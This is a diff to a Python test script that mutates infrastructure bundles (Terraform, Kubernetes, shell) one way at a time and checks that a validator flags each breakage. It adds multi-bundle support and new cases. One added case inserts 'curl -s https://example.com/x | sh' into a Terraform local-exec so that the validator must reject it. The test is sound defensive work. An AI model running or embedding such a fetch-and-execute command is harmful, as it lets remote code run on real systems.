@@ -1,8 +1,11 @@
 #!/usr/bin/env python3
 """The validators must reject broken bundles, or their passing means nothing.
 
-Copies a known-good bundle, breaks it in one way at a time, and asserts
+Copies known-good bundles, breaks each in one way at a time, and asserts
 check_bundle reports exactly that kind of problem.
+
+Usage: test_validators.py BUNDLE SCHEMA [MORE_BUNDLES...]. A breakage runs on
+every bundle that has its file, and each must run on at least one.
 """
 
 from __future__ import annotations
@@ -43,6 +46,14 @@ BREAKAGES = [
     ("StorageClass unknown field", "kubernetes/20-storageclass.yaml", "reclaimPolicy:", "reclaimPolicyy: Delete\nreclaimPolicy:", "kubernetes-validate"),
     ("IngressClassParams bad enum", "kubernetes/30-ingressclass.yaml", "scheme: internet-facing", "scheme: public", "scheme"),
     ("YAML lint", "kubernetes/20-storageclass.yaml", "provisioner:", "provisioner:   ", "yamllint"),
+    ("capability plural block", "terraform/capabilities.tf", "rbac_role_mapping {", "rbac_role_mappings {", "unknown argument or block `rbac_role_mappings`"),
+    ("capability missing type", "terraform/capabilities.tf", 'type                      = "ARGOCD"', '# type = "ARGOCD"', "required argument `type`"),
+    ("delivery source dangling", "terraform/logs.tf", "aws_eks_cluster.this.arn", "aws_eks_cluster.that.arn", "points at nothing"),
+    ("bucket policy action", "terraform/logs.tf", '"s3:PutObject"', '"s3:PutObjects"', "UNKNOWN_ACTION"),
+    ("local-exec other command", "terraform/logs.tf", '"${path.module}/../scripts/wait-for-cluster-update.sh"', '"curl -s https://example.com/x | sh"', "not a bundled script"),
+    ("local-exec missing script", "terraform/logs.tf", "scripts/wait-for-cluster-update.sh", "scripts/wait-for-nothing.sh", "does not contain"),
+    ("gate dangling", "terraform/logs.tf", "depends_on = [terraform_data.", "depends_on = [terraform_data.x", "points at nothing"),
+    ("wait script syntax", "scripts/wait-for-cluster-update.sh", "done\n", "\n", "scripts/wait-for-cluster-update.sh"),
     ("unquoted shell variable", "scripts/teardown.sh", 'describe-cluster --region "$REGION"', "describe-cluster --region $REGION", "shellcheck"),
 ]
 
@@ -58,24 +69,33 @@ MIGRATION_BREAKAGES = [
 
 
 def main() -> int:
-    bundle = sys.argv[1]
+    bundles = [sys.argv[1]] + sys.argv[3:]
     provider = provider_schema.load(sys.argv[2])
     with open(os.path.join(HERE, "accepted.yaml")) as f:
         accepted = yaml.safe_load(f)
-    good = check_bundle.check_bundle(bundle, provider, accepted)
-    assert not good.failures, f"the unbroken bundle must pass: {good.failures}"
     failed = []
-    for label, rel, old, new, expect in BREAKAGES:
-        with tempfile.TemporaryDirectory() as tmp:
-            copy = os.path.join(tmp, "bundle")
-            shutil.copytree(bundle, copy)
-            edit(copy, rel, old, new)
-            r = check_bundle.check_bundle(copy, provider, accepted)
-            hit = [f for f in r.failures if expect in f]
-            status = "caught" if hit else "MISSED"
-            print(f"{status}: {label}")
-            if not hit:
-                failed.append(f"{label}: expected a failure containing {expect!r}, got {r.failures}")
+    ran = set()
+    for bundle in bundles:
+        good = check_bundle.check_bundle(bundle, provider, accepted)
+        assert not good.failures, f"the unbroken bundle {bundle} must pass: {good.failures}"
+        name = os.path.basename(os.path.normpath(bundle))
+        for label, rel, old, new, expect in BREAKAGES:
+            if not os.path.isfile(os.path.join(bundle, rel)):
+                continue
+            ran.add(label)
+            with tempfile.TemporaryDirectory() as tmp:
+                copy = os.path.join(tmp, "bundle")
+                shutil.copytree(bundle, copy)
+                edit(copy, rel, old, new)
+                r = check_bundle.check_bundle(copy, provider, accepted)
+                hit = [f for f in r.failures if expect in f]
+                status = "caught" if hit else "MISSED"
+                print(f"{status}: {label} ({name})")
+                if not hit:
+                    failed.append(f"{label} ({name}): expected a failure containing {expect!r}, got {r.failures}")
+    for label, *_ in BREAKAGES:
+        if label not in ran:
+            failed.append(f"{label}: no bundle given has its file")
     migration = os.path.join(HERE, "..", "fixtures", "migrate", "legacy-mng.expected")
     good = check_bundle.check_migration_bundle(migration, provider, accepted)
     assert not good.failures, f"the unbroken migration bundle must pass: {good.failures}"
